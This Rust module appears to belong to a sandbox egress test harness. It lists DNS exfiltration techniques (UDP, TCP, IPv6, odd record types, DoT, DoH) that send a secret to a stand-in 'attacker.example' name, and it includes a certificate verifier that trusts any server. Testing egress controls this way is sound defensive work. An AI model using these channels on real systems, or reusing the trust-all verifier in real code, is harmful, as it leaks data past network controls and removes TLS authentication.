//! Names as a way out: what is asked for tells whoever owns the name. Asked of a resolver outside, by every transport that
//! resolvers have.

use std::io::{self, Read, Write};
use std::net::SocketAddr;
use std::os::fd::OwnedFd;
use std::sync::Arc;

use nix::errno::Errno;
use rustls::client::danger::{HandshakeSignatureValid, ServerCertVerified, ServerCertVerifier};
use rustls::pki_types::{CertificateDer, ServerName, UnixTime};
use rustls::{AlertDescription, ClientConfig, ClientConnection, DigitallySignedStruct, SignatureScheme};

use crate::datagram::SECRET;
use crate::stream::mapped;
use crate::sys::{self, Attempt};
use crate::{Outcome, Scene, Technique};

const DNS: u16 = 53;
/// RFC 7858, RFC 9250.
const DNS_OVER_TLS: u16 = 853;
const HTTPS: u16 = 443;
const MULTICAST_DNS: u16 = 5353;

/// Types (RFC 1035, section 3.2.2): an address, something that is nothing, text.
const A: u16 = 1;
const NULL: u16 = 10;
const TXT: u16 = 16;
/// One of those that nobody has defined (RFC 6895, section 3.1).
const PRIVATE: u16 = 65_280;
/// Names of RFC 1035 hold labels of 63 bytes, four at most.
const LABEL: usize = 63;
const LABELS: usize = 3;

pub(crate) const TECHNIQUES: &[Technique] = &[
    ("dns_udp", |scene| by_udp(canary(scene, DNS), &query(&[b"secret"], A))),
    ("dns_udp6", |scene| by_udp(canary6(scene, DNS), &query(&[b"secret"], A))),
    ("dns_udp_mapped", |scene| by_udp(mapped(canary(scene, DNS)), &query(&[b"secret"], A))),
    ("dns_udp_connected", |scene| {
        let fd = sys::udp(&scene.canary())?;
        sys::connect(&fd, &sys::address(canary(scene, DNS), 0))?;
        sys::send_to(&fd, &query(&[b"secret"], A), 0, &[])?;
        answer(&fd)
    }),
    ("dns_tcp", |scene| by_tcp(canary(scene, DNS))),
    ("dns_tcp6", |scene| by_tcp(canary6(scene, DNS))),
    ("dns_long_labels", |scene| {
        let label = [b'x'; LABEL];
        by_udp(canary(scene, DNS), &query(&[&label[..]; LABELS], A))
    }),
    ("dns_text", |scene| by_udp(canary(scene, DNS), &query(&[b"secret"], TXT))),
    ("dns_rare_type", |scene| by_udp(canary(scene, DNS), &query(&[b"secret"], NULL))),
    ("dns_private_type", |scene| by_udp(canary(scene, DNS), &query(&[b"secret"], PRIVATE))),
    // What stands behind the question, where no question is.
    ("dns_trailing_bytes", |scene| by_udp(canary(scene, DNS), &[&query(&[b"secret"], A)[..], SECRET].concat())),
    ("dns_no_query", |scene| by_udp(canary(scene, DNS), SECRET)),
    ("dns_other_port", |scene| by_udp(canary(scene, MULTICAST_DNS), &query(&[b"secret"], A))),
    ("dns_quic", |scene| by_udp(canary(scene, DNS_OVER_TLS), &query(&[b"secret"], A))),
    ("dns_tls", |scene| by_tls(canary(scene, DNS_OVER_TLS), b"dot", &framed())),
    ("dns_tls6", |scene| by_tls(canary6(scene, DNS_OVER_TLS), b"dot", &framed())),
    ("dns_https", |scene| by_tls(canary(scene, HTTPS), b"http/1.1", &post())),
    ("dns_https6", |scene| by_tls(canary6(scene, HTTPS), b"http/1.1", &post())),
    ("dns_http", |scene| {
        let fd = connected(scene.canary())?;
        sys::send_to(&fd, &post(), 0, &[])?;
        answer(&fd)
    }),
];

fn canary(scene: &Scene, port: u16) -> SocketAddr {
    SocketAddr::new(scene.canary().ip(), port)
}

fn canary6(scene: &Scene, port: u16) -> SocketAddr {
    SocketAddr::new(scene.canary6().ip(), port)
}

/// RFC 1035, section 4.1: one question about a name that belongs to the attacker, recursion desired.
fn query(labels: &[&[u8]], kind: u16) -> Vec<u8> {
    let mut query = vec![0x77, 0x77, 1, 0, 0, 1, 0, 0, 0, 0, 0, 0];
    for label in labels.iter().chain(&[&b"attacker"[..], b"example"]) {
        query.push(u8::try_from(label.len()).expect("a label"));
        query.extend(*label);
    }
    query.extend([0, kind.to_be_bytes()[0], kind.to_be_bytes()[1], 0, 1]);
    query
}

/// As it goes over streams (RFC 1035, section 4.2.2).
fn framed() -> Vec<u8> {
    let query = query(&[b"secret"], A);
    [&u16::try_from(query.len()).expect("short").to_be_bytes()[..], &query].concat()
}

/// RFC 8484, section 4.1.
fn post() -> Vec<u8> {
    let query = query(&[b"secret"], A);
    let head = format!(
        "POST /dns-query HTTP/1.1\r\nHost: resolver.example\r\nContent-Type: application/dns-message\r\n\
         Accept: application/dns-message\r\nContent-Length: {}\r\n\r\n",
        query.len()
    );
    [head.as_bytes(), &query].concat()
}

fn by_udp(to: SocketAddr, what: &[u8]) -> Attempt<Outcome> {
    let fd = sys::udp(&to)?;
    sys::send_to(&fd, what, 0, &sys::address(to, 0))?;
    answer(&fd)
}

fn by_tcp(to: SocketAddr) -> Attempt<Outcome> {
    let fd = connected(to)?;
    sys::send_to(&fd, &framed(), 0, &[])?;
    answer(&fd)
}

fn connected(to: SocketAddr) -> Attempt<OwnedFd> {
    let fd = sys::tcp(&to)?;
    sys::limit_waiting(&fd)?;
    sys::connect(&fd, &sys::address(to, 0))?;
    Ok(fd)
}

/// What a resolver says. The code is in the header's fourth byte, behind the length where there is one.
fn answer(fd: &OwnedFd) -> Attempt<Outcome> {
    const REFUSED: u8 = 5;
    const FORMAT_ERROR: u8 = 1;
    let mut reply = [0u8; 512];
    let length = sys::receive(fd, &mut reply)?;
    let message = reply[..length].strip_prefix(&[0]).map_or(&reply[..length], |framed| framed.get(1..).unwrap_or(&[]));
    Ok(match message.get(3).map(|flags| flags & 15) {
        None => Outcome::Closed,
        Some(REFUSED) => Outcome::Answer("refused by the resolver".to_owned()),
        Some(FORMAT_ERROR) => Outcome::Answer("refused by the resolver as no query".to_owned()),
        Some(code) => Outcome::Answer(format!("of a resolver: code {code}")),
    })
}

/// A whole handshake as a client of any library makes it, and then the query.
fn by_tls(to: SocketAddr, protocol: &[u8], what: &[u8]) -> Attempt<Outcome> {
    let fd = connected(to)?;
    let mut tls = client(protocol);
    let mut wire = Wire(fd);
    tls.writer().write_all(what).expect("room for a query");
    let mut said = [0u8; 512];
    loop {
        while tls.wants_write() {
            tls.write_tls(&mut wire).map_err(|error| errno(&error))?;
        }
        if tls.read_tls(&mut wire).map_err(|error| errno(&error))? == 0 {
            return Ok(Outcome::Closed);
        }
        match tls.process_new_packets() {
            Ok(_) => {}
            Err(rustls::Error::AlertReceived(AlertDescription::AccessDenied)) => {
                return Ok(Outcome::Answer("refused by an alert".to_owned()));
            }
            Err(error) => return Ok(Outcome::Answer(format!("that is no TLS: {error}"))),
        }
        if let Ok(length @ 1..) = tls.reader().read(&mut said) {
            return Ok(Outcome::Answer(format!("of a resolver: {length} bytes")));
        }
    }
}

fn client(protocol: &[u8]) -> ClientConnection {
    let config = ClientConfig::builder_with_provider(Arc::new(rustls::crypto::aws_lc_rs::default_provider()))
        .with_safe_default_protocol_versions()
        .expect("versions that the provider has");
    let mut config = config.dangerous().with_custom_certificate_verifier(Arc::new(Anybody)).with_no_client_auth();
    config.alpn_protocols = vec![protocol.to_vec()];
    let name = ServerName::try_from("resolver.example").expect("a name");
    ClientConnection::new(Arc::new(config), name).expect("a client")
}

/// A socket of this program's, with its patience.
struct Wire(OwnedFd);

impl Read for Wire {
    fn read(&mut self, buffer: &mut [u8]) -> io::Result<usize> {
        Ok(sys::receive(&self.0, buffer)?)
    }
}

impl Write for Wire {
    fn write(&mut self, bytes: &[u8]) -> io::Result<usize> {
        sys::send_to(&self.0, bytes, 0, &[])?;
        Ok(bytes.len())
    }

    fn flush(&mut self) -> io::Result<()> {
        Ok(())
    }
}

fn errno(error: &io::Error) -> Errno {
    Errno::from_raw(error.raw_os_error().unwrap_or(0))
}

/// Whoever answers is the resolver that the attacker wants.
#[derive(Debug)]
struct Anybody;

impl ServerCertVerifier for Anybody {
    fn verify_server_cert(
        &self,
        _: &CertificateDer<'_>,
        _: &[CertificateDer<'_>],
        _: &ServerName<'_>,
        _: &[u8],
        _: UnixTime,
    ) -> Result<ServerCertVerified, rustls::Error> {
        Ok(ServerCertVerified::assertion())
    }

    fn verify_tls12_signature(
        &self,
        _: &[u8],
        _: &CertificateDer<'_>,
        _: &DigitallySignedStruct,
    ) -> Result<HandshakeSignatureValid, rustls::Error> {
        Ok(HandshakeSignatureValid::assertion())
    }

    fn verify_tls13_signature(
        &self,
        _: &[u8],
        _: &CertificateDer<'_>,
        _: &DigitallySignedStruct,
    ) -> Result<HandshakeSignatureValid, rustls::Error> {
        Ok(HandshakeSignatureValid::assertion())
    }

    fn supported_verify_schemes(&self) -> Vec<SignatureScheme> {
        rustls::crypto::aws_lc_rs::default_provider().signature_verification_algorithms.supported_schemes()
    }
}
